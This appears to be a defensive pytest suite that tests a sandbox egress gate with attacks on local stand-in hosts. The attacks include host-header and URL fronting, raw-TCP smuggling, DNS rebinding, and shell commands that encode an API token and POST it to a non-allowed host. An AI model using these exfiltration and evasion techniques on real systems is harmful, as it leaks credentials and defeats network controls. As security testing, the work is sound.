"""Attacks on the egress gate from inside a real bottle, against real upstreams.

Each test is one attack or one variant of it, with a positive control: the same move with the
names agreeing (or a harmless value) goes through, so a refusal is the defence at work and not a
broken setup. The upstreams log what reached them, so "refused" also means "never arrived".
"""

from __future__ import annotations

import json
import secrets
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from e2e_helpers import bottle_launch, launch_detached
from egress_attacks import b64, gate_decisions, raw, received, sh, start_raw_server

TOKEN = "sk-ant-oat01-" + secrets.token_urlsafe(70)


@pytest.fixture(scope="module")
def credential() -> str:
    return "cred-" + secrets.token_hex(16)


@pytest.fixture(scope="module")
def raw_server(client, images, upstream_network) -> Iterator[object]:
    container = start_raw_server(client, images["egress"], upstream_network, ["raw.test"])
    yield container
    container.remove(force=True)


def _start(tmp_path: Path, network: str, ca: Path, egress: dict, env: dict) -> str:
    manifest = tmp_path / "claude-bottle.json"
    manifest.write_text(
        json.dumps({"bottles": {"atk": {"egress": egress, "env": env}}, "agents": {"tester": {"bottle": "atk"}}})
    )
    launch_env = {"BOTTLE_EGRESS_UPSTREAM_CA": str(ca), "CLAUDE_BOTTLE_OAUTH_TOKEN": TOKEN}
    return launch_detached(manifest, network, env=launch_env).stdout.strip()


@pytest.fixture(scope="module")
def bottle(tmp_path_factory, upstream_network, upstream_subnet, test_ca, tls_upstream, raw_server, credential):
    egress = {
        "allowlist": ["tls.test", "other.test", "passthrough.test", "raw.test", "allowed.test"],
        "allow_cidrs": [upstream_subnet],
        "passthrough": ["passthrough.test"],
        "ports": {"raw.test": [2222]},
    }
    # API_TOKEN: the default, swapped in headers only.
    env = {"API_TOKEN": {"value": credential, "hosts": ["tls.test"]}}
    bottle_id = _start(tmp_path_factory.mktemp("atk"), upstream_network, test_ca[1], egress, env)
    yield bottle_id
    bottle_launch("stop", bottle_id)


@pytest.fixture(scope="module")
def placeholder(bottle) -> str:
    return sh(bottle, 'printf %s "$API_TOKEN"').stdout


def _upstream_paths(tls_upstream) -> str:
    return tls_upstream.logs().decode()


def _request(target: str, host: str) -> str:
    """A POST (the upstream logs those) of `target`, with the credential in its header."""
    head = f"POST {target} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer $TOKEN\r\n"
    return head + "Content-Length: 0\r\nConnection: close\r\n\r\n"


def _in_tunnel(bottle: str, placeholder: str, target: str, request: str, sni: str = "tls.test") -> dict:
    return raw(bottle, "tunnel", target, sni, b64(request.replace("$TOKEN", placeholder)))


# -- 1. fronting: one request, one target ------------------------------------------------------
FRONTING = {
    "absolute-form-to-another-host": ("https://other.test/front-a", "other.test"),
    "absolute-form-keeping-the-tunnel-host-header": ("https://other.test/front-b", "tls.test"),
    "absolute-form-with-userinfo": ("https://tls.test@other.test/front-c", "tls.test"),
    "host-header-to-another-host": ("/front-d", "other.test"),
    "host-header-with-a-trailing-dot": ("/front-e", "other.test."),
    "host-header-with-another-port": ("/front-f", "tls.test:8443"),
    "absolute-form-with-another-port": ("https://tls.test:8443/front-g", "tls.test"),
}


@pytest.mark.parametrize("variant", sorted(FRONTING))
def test_a_request_in_a_tunnel_cannot_name_another_host(bottle, placeholder, tls_upstream, variant):
    target, host = FRONTING[variant]
    path = target.rsplit("/", 1)[1]
    out = _in_tunnel(bottle, placeholder, "tls.test:443", _request(target, host))
    assert out["connect"] == 200
    # 403 from the gate's target check; mitmproxy itself answers 400 to a request line it
    # cannot parse (a userinfo part): refused either way, before anything is forwarded.
    status = out["data"].split(" ", 2)[1] if out["data"].startswith("HTTP/") else out
    assert status in ("400", "403"), out
    assert status == "400" or "mismatch" in out["data"], out
    assert f"/{path}" not in _upstream_paths(tls_upstream)  # never arrived, with or without the credential


@pytest.mark.parametrize(
    ("target", "host"),
    [
        ("/front-ok-a", "tls.test"),
        ("/front-ok-b", "tls.test:443"),
        ("/front-ok-c", "tls.test."),
        ("https://tls.test/front-ok-d", "tls.test"),
    ],
    ids=["relative", "host-with-its-port", "host-with-a-trailing-dot", "absolute-form-naming-the-tunnel"],
)
def test_control_agreeing_names_reach_the_host_with_the_real_credential(
    bottle, placeholder, credential, tls_upstream, target, host
):
    out = _in_tunnel(bottle, placeholder, "tls.test:443", _request(target, host))
    assert out["data"].startswith("HTTP/1.1 200"), out
    path = target.rsplit("/", 1)[1]
    line = next(line for line in _upstream_paths(tls_upstream).splitlines() if f"/{path}" in line)
    assert f"Bearer {credential}" in line  # swapped in, and only after the names agreed


def test_an_http_1_0_request_without_host_goes_to_its_tunnel(bottle, placeholder, tls_upstream):
    request = "POST /front-http10 HTTP/1.0\r\nAuthorization: Bearer $TOKEN\r\nContent-Length: 0\r\n\r\n"
    out = _in_tunnel(bottle, placeholder, "tls.test:443", request)
    assert out["data"].startswith("HTTP/1.0 200") or out["data"].startswith("HTTP/1.1 200"), out


@pytest.mark.parametrize(
    ("request_line", "host", "refused"),
    [
        ("GET http://allowed.test/plain-a", "blocked.test", True),
        ("GET http://allowed.test/plain-b", "blocked.test:80", True),
        ("GET http://blocked.test@allowed.test/plain-c", "blocked.test", True),
        ("GET http://allowed.test/plain-ok", "allowed.test", False),
        ("GET http://allowed.test/plain-ok-port", "allowed.test:80", False),
    ],
    ids=["host-names-another", "host-with-port-names-another", "userinfo", "control-agreeing", "control-with-port"],
)
def test_plain_http_the_url_and_host_must_agree(bottle, request_line, host, refused):
    out = raw(bottle, "plain", b64(f"{request_line} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"))
    if refused:
        assert out["data"].startswith(("HTTP/1.1 403", "HTTP/1.1 400")), out
        assert "HTTP/1.1 400" in out["data"] or "host-mismatch" in out["data"], out
    else:
        assert out["data"].startswith(("HTTP/1.0 200", "HTTP/1.1 200")), out
        assert "hello from upstream allowed.test" in out["data"], out


# -- 2. credentials never come back --------------------------------------------------------------
def test_a_credential_in_a_body_is_not_swapped_by_default(bottle, placeholder, credential, tls_upstream):
    out = sh(bottle, 'curl -sS -X POST --data "gist=$API_TOKEN" https://tls.test/echo-body').stdout
    upstream = next(line for line in _upstream_paths(tls_upstream).splitlines() if "/echo-body" in line)
    assert credential not in upstream and placeholder in upstream  # the echo service got the placeholder
    assert credential not in out and json.loads(out)["body"] == f"gist={placeholder}"


def test_control_in_a_header_the_credential_is_swapped(bottle, placeholder, credential, tls_upstream):
    sh(bottle, 'curl -sS -H "Authorization: Bearer $API_TOKEN" -X POST https://tls.test/echo-header')
    line = next(line for line in _upstream_paths(tls_upstream).splitlines() if "/echo-header" in line)
    assert f"Bearer {credential}" in line


def test_an_echoed_credential_comes_back_as_the_placeholder(bottle, placeholder, credential):
    out = sh(bottle, 'curl -sS -D - -H "Authorization: Bearer $API_TOKEN" -X POST https://tls.test/echo-back').stdout
    assert credential not in out
    assert f"Bearer {placeholder}" in out  # the echo, masked


def test_a_streamed_echo_split_across_chunks_comes_back_masked(bottle, placeholder, credential):
    out = sh(bottle, 'curl -sS -N -H "Authorization: Bearer $API_TOKEN" https://tls.test/echo-stream').stdout
    assert out == f"auth=Bearer {placeholder}\n", out
    assert credential not in out


ENCODINGS = {
    "base64": 'printf %s "$API_TOKEN" | base64 -w0',
    "base64url": "printf %s \"$API_TOKEN\" | base64 -w0 | tr '+/' '-_' | tr -d =",
    "base64-shifted": "printf 'xy%s' \"$API_TOKEN\" | base64 -w0",
    "hex": "printf %s \"$API_TOKEN\" | od -An -tx1 | tr -d ' \\n'",
    "url-encoded": "node -e 'process.stdout.write(encodeURIComponent(process.env.API_TOKEN + \"/?\"))'",
    "reversed": 'printf %s "$API_TOKEN" | rev',
}


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
def test_an_encoded_credential_is_refused_for_another_host(bottle, tls_upstream, encoding):
    script = f'v=$({ENCODINGS[encoding]}); curl -sS -w " %{{http_code}}" -X POST --data "x=$v" https://other.test/enc-{encoding}'
    out = sh(bottle, script).stdout
    assert out.endswith(" 403") and "dlp:credential" in out, out
    assert f"/enc-{encoding}" not in _upstream_paths(tls_upstream)


def test_control_the_same_encoding_of_a_random_value_passes(bottle):
    script = (
        'v=$(head -c 24 /dev/urandom | od -An -tx1 | tr -d " \\n");'
        ' curl -sS -o /dev/null -w "%{http_code}" -X POST --data "x=$v" https://other.test/enc-control'
    )
    assert sh(bottle, script).stdout == "200"


def test_an_encoded_credential_split_across_upload_chunks_is_found(bottle, tls_upstream):
    # 9 MB of filler puts the encoded value past the 4 MiB buffer, into the streamed scan.
    script = (
        'v=$(printf %s "$API_TOKEN" | base64 -w0);'
        ' { node -e "process.stdout.write(\'0123456789abcdef\'.repeat(600000))"; printf %s "$v"; } > /tmp/up;'
        " curl -sS -w ' %{http_code}' -H 'Transfer-Encoding: chunked' --data-binary @/tmp/up https://other.test/sink-enc"
    )
    out = sh(bottle, script)
    assert not out.stdout.endswith(" 200"), out.stdout[-300:]
    assert "sink /sink-enc " not in _upstream_paths(tls_upstream)


# -- 5. a tunnel carries TLS or HTTP, nothing else -----------------------------------------------
RAW_PAYLOADS = {
    "binary": b"\x00\x01RAW-EXFIL ",
    "ssh-client-banner": b"SSH-2.0-OpenSSH_9.2\r\nRAW-EXFIL ",
}


@pytest.mark.parametrize("payload", sorted(RAW_PAYLOADS))
def test_raw_bytes_through_a_tunnel_never_arrive(client, bottle, raw_server, credential, payload):
    out = raw(bottle, "tunnel", "raw.test:443", "-", b64(RAW_PAYLOADS[payload] + credential.encode()))
    assert out["connect"] == 200 and out["closed"], out
    assert not any(b"RAW-EXFIL" in data for _, data in received(raw_server))
    assert any(d["rule"] == "raw-tcp" and d["decision"] == "block" for d in gate_decisions(client, bottle))


def test_raw_bytes_inside_intercepted_tls_never_arrive(client, bottle, tls_upstream, credential):
    before = tls_upstream.logs()
    out = raw(bottle, "tunnel", "tls.test:443", "tls.test", b64(b"\x00\x01RAW-IN-TLS " + credential.encode()))
    assert out["closed"], out
    assert credential.encode() not in tls_upstream.logs()[len(before) :]


def test_a_server_that_speaks_first_is_cut_off(bottle, raw_server):
    out = raw(bottle, "tunnel", "raw.test:80", "-", "", "4000")
    assert "SSH-2.0" not in out["data"] and out["closed"], out


def test_control_the_raw_server_records_what_it_is_sent(client, raw_server, upstream_network, images):
    # From a container on the test network, not through a gate: the server logs raw bytes and
    # greets on 80, so its silence above is the gate's doing.
    out = client.containers.run(
        images["egress"],
        entrypoint=[
            "python3",
            "-c",
            "import socket; s = socket.create_connection(('raw.test', 80)); print(s.recv(64));"
            " s.sendall(b'CONTROL'); s.close()",
        ],
        network=upstream_network,
        remove=True,
        user="0",
    )
    assert b"SSH-2.0" in out
    deadline = time.monotonic() + 10
    while not any(data == b"CONTROL" for _, data in received(raw_server)):
        assert time.monotonic() < deadline, received(raw_server)
        time.sleep(0.1)


def test_a_tunnel_to_port_22_is_refused(bottle):
    out = raw(bottle, "tunnel", "raw.test:22", "-", "")
    assert out["connect"] == 403 and "rule: port" in out["data"], out


def test_control_a_declared_port_is_open_but_still_carries_no_raw_bytes(client, bottle, raw_server):
    out = raw(bottle, "tunnel", "raw.test:2222", "-", b64("RAW-2222"))
    assert out["connect"] == 200, out
    assert not any(port == 2222 for port, _ in received(raw_server))


def test_every_admitted_tunnel_and_passthrough_is_a_decision_line(client, bottle):
    sh(bottle, "curl -sS -o /dev/null https://tls.test/logged; curl -sk -o /dev/null https://passthrough.test/ || true")
    decisions = gate_decisions(client, bottle)
    assert any(d["method"] == "CONNECT" and d["host"] == "tls.test" and d["decision"] == "allow" for d in decisions)
    assert any(d["host"] == "passthrough.test" and d["rule"] == "passthrough" for d in decisions)


# -- 7. a placeholder tells nothing -------------------------------------------------------------
def test_a_placeholder_keeps_no_part_of_an_unformatted_secret(tmp_path, upstream_network, upstream_subnet, test_ca):
    words = "correct-horse-battery-staple-" + secrets.token_hex(4)
    env = {
        "WORDS": {"value": words, "hosts": ["tls.test"]},
        "GH": {"value": "ghp_" + "a1B2" * 9, "hosts": ["tls.test"]},
    }
    bottle_id = _start(tmp_path, upstream_network, test_ca[1], {"allow_cidrs": [upstream_subnet]}, env)
    try:
        fake_words = sh(bottle_id, 'printf %s "$WORDS"').stdout
        fake_gh = sh(bottle_id, 'printf %s "$GH"').stdout
    finally:
        bottle_launch("stop", bottle_id)
    assert len(fake_words) == len(words) and "correct" not in fake_words and "-" not in fake_words
    assert fake_gh.startswith("ghp_") and fake_gh != "ghp_" + "a1B2" * 9  # the control: a known format keeps its prefix


# -- 4. the gate connects to the address it checked (DNS rebinding) -------------------------------
REBIND_SERVER = """
import http.server, os
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = ("I am " + os.environ["WHO"]).encode()
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a): pass
print("listening", flush=True)
http.server.ThreadingHTTPServer(("0.0.0.0", 80), H).serve_forever()
"""


@pytest.fixture(scope="module")
def rebinding(client, images) -> Iterator[dict]:
    """A network of its own with fixed addresses: `good` (allowed) and `evil` (internal, not
    allowed) take turns holding the names rebind.test and x.rebind.test, as a rebinding DNS
    answer would flip between them."""
    import docker.types

    name = f"bottle-test-rebind-{uuid.uuid4().hex[:6]}"
    for _ in range(20):
        octet = secrets.randbelow(200) + 20
        subnet = f"10.{octet}.{secrets.randbelow(250)}.0/24"
        try:
            ipam = docker.types.IPAMConfig(pool_configs=[docker.types.IPAMPool(subnet=subnet)])
            network = client.networks.create(name, driver="bridge", ipam=ipam)
            break
        except docker.errors.APIError:
            continue
    base = subnet.rsplit(".", 1)[0]
    servers = {}
    for who, last in (("good", 10), ("evil", 20)):
        container = client.containers.create(
            images["egress"], entrypoint=["python3", "-c", REBIND_SERVER], environment={"WHO": who},
            name=f"{name}-{who}", user="0", network=name,
        )  # fmt: skip
        network.disconnect(container)
        container.start()
        servers[who] = (container, f"{base}.{last}")
    stop = threading.Event()

    def flip() -> None:
        who = "good"
        while not stop.is_set():
            container, ip = servers[who]
            network.connect(container, ipv4_address=ip, aliases=["rebind.test", "x.rebind.test"])
            time.sleep(0.15)
            network.disconnect(container, force=True)
            who = "evil" if who == "good" else "good"

    yield {
        "network": name,
        "subnet": subnet,
        "good": servers["good"][1],
        "evil": servers["evil"][1],
        "flip": flip,
        "stop": stop,
    }
    stop.set()
    time.sleep(0.5)
    for container, _ in servers.values():
        container.remove(force=True)
    for attached in client.networks.get(name).containers:
        client.networks.get(name).disconnect(attached, force=True)
    network.remove()


def _rebind_run(tmp_path: Path, rebinding: dict, test_ca, allow: list[str], host: str, allowlist: str) -> str:
    egress = {"allowlist": [allowlist], "allow_cidrs": allow}
    bottle_id = _start(tmp_path, rebinding["network"], test_ca[1], egress, {})
    flipper = threading.Thread(target=rebinding["flip"], daemon=True)
    rebinding["stop"].clear()
    flipper.start()
    try:
        loop = f"for i in $(seq 1 60); do curl -s -m 3 http://{host}/; echo; sleep 0.05; done"
        return sh(bottle_id, loop, timeout=300).stdout
    finally:
        rebinding["stop"].set()
        flipper.join(timeout=10)
        bottle_launch("stop", bottle_id)


@pytest.mark.parametrize(("host", "allowlist"), [("rebind.test", "rebind.test"), ("x.rebind.test", "*.rebind.test")])
def test_a_rebinding_name_never_reaches_an_internal_address(tmp_path, rebinding, test_ca, host, allowlist):
    out = _rebind_run(tmp_path, rebinding, test_ca, [f"{rebinding['good']}/32"], host, allowlist)
    assert "I am good" in out, out  # the name resolved to the allowed server at times ...
    assert "I am evil" not in out, out  # ... and never to the internal one, checked or not


def test_control_with_both_addresses_allowed_the_flip_reaches_both(tmp_path, rebinding, test_ca):
    out = _rebind_run(tmp_path, rebinding, test_ca, [rebinding["subnet"]], "rebind.test", "rebind.test")
    assert "I am good" in out and "I am evil" in out, out
